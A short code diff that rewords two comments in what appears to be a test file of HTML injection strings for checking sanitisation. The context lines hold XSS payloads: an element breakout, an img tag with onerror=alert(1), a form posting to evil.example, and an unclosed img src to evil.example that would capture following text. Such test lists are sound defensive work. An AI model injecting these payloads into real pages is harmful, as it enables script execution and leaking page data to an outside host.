@@ -1,4 +1,4 @@
-/** Text that opens an element, or closes the one that it might be in. */
+/** Text that opens an element, or closes the surrounding one. */
 const ways = [
   '',
   '">',
@@ -44,7 +44,7 @@ const fetching = [
   '<form action="https://evil.example/"><button>x</button></form>',
 ];
 
-/** Halves of elements: the text after them, ours, would be taken into them. */
+/** Incomplete elements, which would absorb the text after them. */
 const unfinished = [
   '<img src=x onerror=alert(1) ',
   '<img src="https://evil.example/?',
